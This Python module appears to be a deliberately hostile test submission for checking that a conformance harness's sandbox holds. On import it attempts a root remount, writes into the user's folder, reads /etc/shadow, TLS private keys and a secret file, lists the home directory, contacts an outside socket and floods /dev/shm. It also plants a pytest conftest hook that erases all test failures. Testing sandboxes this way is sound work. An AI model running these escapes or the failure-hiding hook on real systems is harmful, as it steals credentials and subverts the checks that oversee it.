"""Wrong (the last bit of every f32 flipped), and at import it tries every way out of the
sandbox it can: its capabilities and user, a remount of / read-write, a file in the user's
folder (HOSTILE_TARGET) and a module planted in the installed checks that would pass every
check, the user's secret (HOSTILE_SECRET, a file its owner keeps to itself), a Unix socket on
the filesystem (HOSTILE_SOCKET: a server outside), the user's home (HOSTILE_HOME),
/etc/shadow, the host's TLS keys, and more of /dev/shm than its memory limit. What it
managed it says in its VERSION, which the report shows; what held, too ("held: ..."). A
sandbox that holds keeps it failing."""

import ctypes
import importlib.util
import os
import pathlib
import socket

from last_bit_off import build  # noqa: F401 - its folder is importable beside it

NAME = "escapes"
from probes import attempt as _try  # noqa: E402 - beside it, as last_bit_off is
from probes import said  # noqa: E402


def _status(field: str) -> str:
    for line in pathlib.Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return line.split(":", 1)[1].strip()
    return ""


_try("caps", lambda: _status("CapEff").strip("0") != "" and _status("CapEff"))
_try("root", lambda: os.geteuid() == 0)


def _remount() -> bool:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/", None, 32 | 4096, None) != 0:  # MS_REMOUNT | MS_BIND
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


_try("remount", _remount)
target = pathlib.Path(os.environ.get("HOSTILE_TARGET", "/nonexistent"))
_try("write", lambda: (target / "planted.txt").write_text("planted\n")
     and True)
checks = importlib.util.find_spec("gradient_conformance.conformance.checks")
conftest = pathlib.Path(checks.submodule_search_locations[0]) / "conftest_planted.py"
_try("plant", lambda: conftest.write_text(
    "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n") and True)
_try("secret", lambda: pathlib.Path(
    os.environ.get("HOSTILE_SECRET", "/nonexistent")).read_text().strip())
_try("shadow", lambda: pathlib.Path("/etc/shadow").read_text()[:4])
_try("keys", lambda: ",".join(os.listdir("/etc/ssl/private")) or False)


def _connect() -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(os.environ.get("HOSTILE_SOCKET", "/nonexistent"))
        s.sendall(b"escaped\n")
    return True


_try("socket", _connect)
_try("home", lambda: ",".join(sorted(os.listdir(
    os.environ.get("HOSTILE_HOME", "/nonexistent")))) or False)


def _fill_shm() -> str | bool:
    written = 0
    with open("/dev/shm/hostile-fill", "wb") as f:
        try:
            for _ in range(1024):  # 1 GiB
                f.write(b"\1" * (1 << 20))
                written += 1 << 20
        except OSError:
            pass
    os.unlink("/dev/shm/hostile-fill")
    return f"{written >> 20} MiB" if written >= 1 << 30 else False


_try("shm", _fill_shm)
VERSION = said()
